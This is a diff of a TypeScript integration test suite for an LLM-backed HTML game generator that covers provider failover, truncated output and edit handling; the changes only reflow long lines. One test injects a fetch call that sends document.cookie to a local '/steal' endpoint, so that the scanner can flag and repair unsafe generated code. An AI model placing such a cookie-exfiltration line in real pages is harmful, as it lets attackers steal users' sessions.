@@ -9,7 +9,8 @@ import { startTestWorker, testConfig, type TestWorker } from '../helpers/worker.
 import { createUser } from '../helpers/users.ts';
 import { waitFor } from '../../scripts/stack/processes.ts';
 import {
-  FAKE_ANTHROPIC_KEY, FAKE_OPENAI_KEY, fakeGameAnswer, fakeGameHtml, startFakeAnthropic, startFakeOpenAI, type FakeLlmServer,
+  FAKE_ANTHROPIC_KEY, FAKE_OPENAI_KEY, fakeGameAnswer, fakeGameHtml, startFakeAnthropic, startFakeOpenAI,
+  type FakeLlmServer,
 } from '../../fakes/llmServers.ts';
 
 let s: Services;
@@ -21,7 +22,9 @@ let jobs: JobDeps;
 
 const caller = () => ({ id: owner.user.id, role: 'user' as const, username: owner.user.username });
 
-async function run(prompt = 'a blue platformer with a golden coin', deps = jobs): Promise<{ result: GameJobResult; jobId: string; gameId: string }> {
+async function run(
+  prompt = 'a blue platformer with a golden coin', deps = jobs,
+): Promise<{ result: GameJobResult; jobId: string; gameId: string }> {
   const { job } = await startJob(deps, caller(), { kind: 'create', prompt });
   const result = (await s.client.workflow.getHandle(job.workflowId!).result()) as GameJobResult;
   return { result, jobId: job.id, gameId: job.gameId! };
@@ -29,7 +32,8 @@ async function run(prompt = 'a blue platformer with a golden coin', deps = jobs)
 
 const versionsOf = (gameId: string) => s.db.models.GameVersion.count({ where: { gameId } });
 const attemptsOf = async (jobId: string) =>
-  (await s.db.models.ProviderAttempt.findAll({ where: { jobId }, order: [['createdAt', 'ASC']] })).map((a) => `${a.provider}:${a.status}${a.errorClass ? `:${a.errorClass}` : ''}`);
+  (await s.db.models.ProviderAttempt.findAll({ where: { jobId }, order: [['createdAt', 'ASC']] }))
+    .map((a) => `${a.provider}:${a.status}${a.errorClass ? `:${a.errorClass}` : ''}`);
 
 beforeAll(async () => {
   s = await connectServices();
@@ -93,12 +97,17 @@ describe('provider fault matrix', () => {
     const { result, jobId } = await run();
     expect(result).toMatchObject({ state: 'completed', provider: 'anthropic' });
     expect(openai.requests).toHaveLength(3); // Temporal's attempts; the SDK never retried
-    expect(await attemptsOf(jobId)).toEqual(['openai:failed:retryable', 'openai:failed:retryable', 'openai:failed:retryable', 'anthropic:succeeded']);
+    expect(await attemptsOf(jobId)).toEqual([
+      'openai:failed:retryable', 'openai:failed:retryable', 'openai:failed:retryable', 'anthropic:succeeded',
+    ]);
     // What an operator sees in Temporal UI: one activity per provider, and the search attributes.
     const handle = s.client.workflow.getHandle(`job-${jobId}`);
     const history = await handle.fetchHistory();
-    const types = (history.events ?? []).flatMap((e) => e.activityTaskScheduledEventAttributes?.activityType?.name ?? []);
-    expect(types).toEqual(expect.arrayContaining(['prepareJob', 'generateWithOpenAI', 'generateWithAnthropic', 'validateDraft', 'scanDraft', 'storeVersion']));
+    const types = (history.events ?? [])
+      .flatMap((e) => e.activityTaskScheduledEventAttributes?.activityType?.name ?? []);
+    expect(types).toEqual(expect.arrayContaining([
+      'prepareJob', 'generateWithOpenAI', 'generateWithAnthropic', 'validateDraft', 'scanDraft', 'storeVersion',
+    ]));
     const attrs = (await handle.describe()).typedSearchAttributes;
     expect(attrs.get(JOB_STATE)).toBe('completed');
     expect(attrs.get(JOB_PROVIDER)).toBe('anthropic');
@@ -146,7 +155,8 @@ describe('provider fault matrix', () => {
 
   it('truncated output is repaired by asking again with the finding', async () => {
     const html = fakeGameHtml('Half Game');
-    openai.script([{ kind: 'truncated', text: `Here you go:\n\`\`\`html\n${html.slice(0, Math.floor(html.length / 2))}` }]);
+    const half = html.slice(0, Math.floor(html.length / 2));
+    openai.script([{ kind: 'truncated', text: `Here you go:\n\`\`\`html\n${half}` }]);
     const { result, jobId } = await run();
     expect(result).toMatchObject({ state: 'completed', provider: 'openai' });
     expect(openai.requests).toHaveLength(2);
@@ -155,7 +165,8 @@ describe('provider fault matrix', () => {
   }, 30_000);
 
   it('invalid (unsafe) code is repaired', async () => {
-    const unsafe = fakeGameHtml('Evil Game').replace('</script>', 'fetch("http://127.0.0.1:9/steal?c=" + document.cookie);\n</script>');
+    const unsafe = fakeGameHtml('Evil Game')
+      .replace('</script>', 'fetch("http://127.0.0.1:9/steal?c=" + document.cookie);\n</script>');
     openai.script([{ kind: 'ok', text: `\`\`\`html\n${unsafe}\n\`\`\`` }]);
     const { result, gameId } = await run();
     expect(result).toMatchObject({ state: 'completed', provider: 'openai' });
@@ -188,7 +199,9 @@ describe('provider fault matrix', () => {
 
   it('a change request applies search/replace edits exactly to the base version', async () => {
     const { gameId } = await run();
-    openai.script([{ kind: 'ok', text: '<<<<<<< SEARCH\n  var W = 480, H = 360, GOAL = 10, SPEED = 220;\n=======\n  var W = 480, H = 360, GOAL = 10, SPEED = 330;\n>>>>>>> REPLACE\nSUMMARY: speed 220 → 330' }]);
+    const edit = '<<<<<<< SEARCH\n  var W = 480, H = 360, GOAL = 10, SPEED = 220;\n=======\n'
+      + '  var W = 480, H = 360, GOAL = 10, SPEED = 330;\n>>>>>>> REPLACE\nSUMMARY: speed 220 → 330';
+    openai.script([{ kind: 'ok', text: edit }]);
     const { job } = await startJob(jobs, caller(), { kind: 'modify', gameId, prompt: 'make the player faster' });
     const result = (await s.client.workflow.getHandle(job.workflowId!).result()) as GameJobResult;
     expect(result).toMatchObject({ state: 'completed', version: 2 });
@@ -202,7 +215,9 @@ describe('provider fault matrix', () => {
 
   it('edits that miss are sent back; after two misses the model rewrites the whole file', async () => {
     const { gameId } = await run();
-    const miss = { kind: 'ok' as const, text: '<<<<<<< SEARCH\nvar NOT_IN_THE_FILE = 1;\n=======\nvar X = 2;\n>>>>>>> REPLACE' };
+    const miss = {
+      kind: 'ok' as const, text: '<<<<<<< SEARCH\nvar NOT_IN_THE_FILE = 1;\n=======\nvar X = 2;\n>>>>>>> REPLACE',
+    };
     openai.script([miss, miss]); // then the default answer: a whole game
     const before = openai.requests.length;
     const { job } = await startJob(jobs, caller(), { kind: 'modify', gameId, prompt: 'add a second level' });
